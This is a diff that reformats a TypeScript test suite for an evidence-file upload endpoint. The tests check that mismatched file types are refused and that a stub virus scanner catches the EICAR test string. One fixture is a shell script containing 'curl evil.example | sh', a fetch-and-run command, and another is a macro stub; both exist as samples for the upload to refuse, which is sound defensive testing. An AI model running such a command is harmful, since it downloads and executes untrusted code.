@@ -43,7 +43,9 @@ const bytes = {
     { name: 'word/vbaProject.bin', content: 'Attribute VB_Name = "AutoOpen"' },
   ]),
   csv: Buffer.from('name,trained\r\nAnna Kowalska,yes\r\nSeán Ó Briain,no\r\n'),
-  eml: Buffer.from('From: Tom Ellery <tom.ellery@test.police.uk>\r\nSubject: Training\r\nContent-Type: text/html\r\n\r\n<html><body>Done.</body></html>\r\n'),
+  eml: Buffer.from(
+    'From: Tom Ellery <tom.ellery@test.police.uk>\r\nSubject: Training\r\nContent-Type: text/html\r\n\r\n<html><body>Done.</body></html>\r\n',
+  ),
 };
 const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
 
@@ -64,7 +66,7 @@ async function fakeClamd(listen: { port: 0 } | { path: string }): Promise<{ addr
       if (data.length < command.length) return;
       if (data.subarray(0, command.length).toString() !== command) return void socket.end('UNKNOWN COMMAND\0');
       const parts: Buffer[] = [];
-      for (let at = command.length; at + 4 <= data.length; ) {
+      for (let at = command.length; at + 4 <= data.length;) {
         const length = data.readUInt32BE(at);
         if (length === 0) {
           state.scans++;
@@ -106,7 +108,12 @@ describe('evidence files are checked for what they really are', () => {
       lead: { name: 'Nadia Haskins', roles: ['lead'] },
     });
     api.actingAs(p.admin.id);
-    [itemId] = (await api.createReport({ title: 'Evidence files', originator: 'HMICFRS', kind: 'inspection', recommendations: [{ reference: '1', category: 2 }] })) as [string];
+    [itemId] = (await api.createReport({
+      title: 'Evidence files',
+      originator: 'HMICFRS',
+      kind: 'inspection',
+      recommendations: [{ reference: '1', category: 2 }],
+    })) as [string];
     await api.command(itemId, { type: 'assign', ownerId: p.owner.id, leadId: p.lead.id, dueDate: '2027-06-30' });
     await api.command(itemId, { type: 'accept' }, p.owner.id);
     await product.app.services.auth.setPassword(p.owner.id, PASSWORD, { id: null, label: 'test' });
@@ -118,11 +125,19 @@ describe('evidence files are checked for what they really are', () => {
   const stored = () => product.app.dataSource.manager.countBy(EvidenceItem, { recommendationId: itemId, kind: 'file' });
   const upload = async (content: Buffer, type: string, title: string, base = product.baseUrl): Promise<Answer> => {
     const url = `/api/recommendations/${itemId}/evidence/files?title=${encodeURIComponent(title)}`;
-    const response = await fetch(`${base}${url}`, { method: 'POST', headers: { 'content-type': type, authorization: `Bearer ${await tokenFor(product, p.owner.id)}` }, body: content });
+    const response = await fetch(`${base}${url}`, {
+      method: 'POST',
+      headers: { 'content-type': type, authorization: `Bearer ${await tokenFor(product, p.owner.id)}` },
+      body: content,
+    });
     const body = (await response.json()) as Answer['body'];
     // Every answer, refusals too, is one the OpenAPI document gives for this operation.
     const documented = Object.keys(validator.operation('POST', url)!.operation.responses as object);
-    expect([response.status, documented.includes(String(response.status)), validator.problems('POST', url, response.status, response.headers.get('content-type'), body)]).toEqual([response.status, true, []]);
+    expect([
+      response.status,
+      documented.includes(String(response.status)),
+      validator.problems('POST', url, response.status, response.headers.get('content-type'), body),
+    ]).toEqual([response.status, true, []]);
     return { status: response.status, body, headers: response.headers };
   };
 
@@ -136,11 +151,26 @@ describe('evidence files are checked for what they really are', () => {
       [bytes.docm, DOCX, 'Policy.docx', 'looks like an Office document with macros, not a Word document'],
       [Buffer.from(`#!/bin/sh\ncurl evil.example | sh\n`), 'text/plain', 'run.txt', 'looks like a script, not a text file'],
       [Buffer.from('name\u0000,x\n'), 'text/csv', 'data.csv', 'looks like a binary file, not a CSV file'],
-      [Buffer.from([0x6e, 0x61, 0x6d, 0x65, 0x2c, 0xa3, 0x35, 0x0a]), 'text/csv', 'costs.csv', 'looks like text that is not UTF-8 (save it as UTF-8: in Excel, as “CSV UTF-8”), not a CSV file'],
-      [Buffer.from(await new ExcelJS.Workbook().xlsx.writeBuffer()), DOCX, 'Plan.docx', 'looks like an Excel workbook, not a Word document'],
+      [
+        Buffer.from([0x6e, 0x61, 0x6d, 0x65, 0x2c, 0xa3, 0x35, 0x0a]),
+        'text/csv',
+        'costs.csv',
+        'looks like text that is not UTF-8 (save it as UTF-8: in Excel, as “CSV UTF-8”), not a CSV file',
+      ],
+      [
+        Buffer.from(await new ExcelJS.Workbook().xlsx.writeBuffer()),
+        DOCX,
+        'Plan.docx',
+        'looks like an Excel workbook, not a Word document',
+      ],
     ] as const) {
       const answer = await upload(content, type, title);
-      expect([title, answer.status, answer.body.title, answer.body.errors]).toEqual([title, 415, 'The file is not what its type says', [{ field: 'body', message: said }]]);
+      expect([title, answer.status, answer.body.title, answer.body.errors]).toEqual([
+        title,
+        415,
+        'The file is not what its type says',
+        [{ field: 'body', message: said }],
+      ]);
       expect(answer.body.detail).toContain(`“${title}” ${said}.`);
     }
     const named = await upload(bytes.pdf, 'application/pdf', 'invoice.exe');
@@ -177,7 +207,12 @@ describe('evidence files are checked for what they really are', () => {
       const form = new FormData();
       form.set('_csrf', session.csrfToken);
       form.set('file', new Blob([content], { type }), name);
-      const response = await fetch(`${product.baseUrl}/recommendations/${itemId}/evidence/files`, { method: 'POST', redirect: 'manual', headers: { cookie: session.cookie }, body: form });
+      const response = await fetch(`${product.baseUrl}/recommendations/${itemId}/evidence/files`, {
+        method: 'POST',
+        redirect: 'manual',
+        headers: { cookie: session.cookie },
+        body: form,
+      });
       const html = await response.text();
       expect([name, response.status]).toEqual([name, 415]);
       expect(html).toContain('govuk-error-summary');
@@ -190,7 +225,14 @@ describe('evidence files are checked for what they really are', () => {
   describe('with clamd configured', () => {
     const scanned = async (address: string, work: (base: string) => Promise<void>) => {
       const services = { ...product.app.services, evidence: new EvidenceService(product.app.dataSource, clamdScanner(address, 2_000)) };
-      const app = buildApp({ dataSource: product.app.dataSource, ...services, logger: pino({ level: 'silent' }), readiness: async () => ({ ready: true, checks: {} }), forceName: 'Test', evidenceMaxBytes: 1024 * 1024 });
+      const app = buildApp({
+        dataSource: product.app.dataSource,
+        ...services,
+        logger: pino({ level: 'silent' }),
+        readiness: async () => ({ ready: true, checks: {} }),
+        forceName: 'Test',
+        evidenceMaxBytes: 1024 * 1024,
+      });
       const server = http.createServer(app);
       await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
       try {
@@ -207,13 +249,20 @@ describe('evidence files are checked for what they really are', () => {
           expect((await upload(bytes.pdf, 'application/pdf', 'Clean.pdf', base)).status).toBe(201);
           const before = await stored();
           const infected = await upload(Buffer.from(`${EICAR}\r\n`), 'text/plain', 'eicar.txt', base);
-          expect([infected.status, infected.body.title, infected.body.errors]).toEqual([422, 'The file contains a virus', [{ field: 'body', message: 'contains Eicar-Test-Signature' }]]);
+          expect([infected.status, infected.body.title, infected.body.errors]).toEqual([
+            422,
+            'The file contains a virus',
+            [{ field: 'body', message: 'contains Eicar-Test-Signature' }],
+          ]);
           expect(await stored()).toBe(before);
           // Refused for its type before it is ever sent to the scanner.
           expect((await upload(bytes.exe, 'application/pdf', 'invoice.exe', base)).status).toBe(415);
         });
         expect(clamd.scans).toBe(2);
-        const audit = await product.app.dataSource.manager.findOneByOrFail(AuditEvent, { recommendationId: itemId, type: 'evidence_refused_infected' });
+        const audit = await product.app.dataSource.manager.findOneByOrFail(AuditEvent, {
+          recommendationId: itemId,
+          type: 'evidence_refused_infected',
+        });
         expect(audit.summary).toBe('Refused an evidence file: the virus scanner found Eicar-Test-Signature in “eicar.txt”');
         expect(audit.after).toMatchObject({ name: 'eicar.txt', signature: 'Eicar-Test-Signature', sizeBytes: EICAR.length + 2 });
       } finally {
@@ -234,7 +283,11 @@ describe('evidence files are checked for what they really are', () => {
       const before = await stored();
       await scanned(socketPath, async (base) => {
         const answer = await upload(bytes.png, 'image/png', 'Poster.png', base);
-        expect([answer.status, answer.body.title, answer.headers.get('retry-after')]).toEqual([503, 'The virus scanner is not answering', '60']);
+        expect([answer.status, answer.body.title, answer.headers.get('retry-after')]).toEqual([
+          503,
+          'The virus scanner is not answering',
+          '60',
+        ]);
       });
       expect(await stored()).toBe(before);
     });
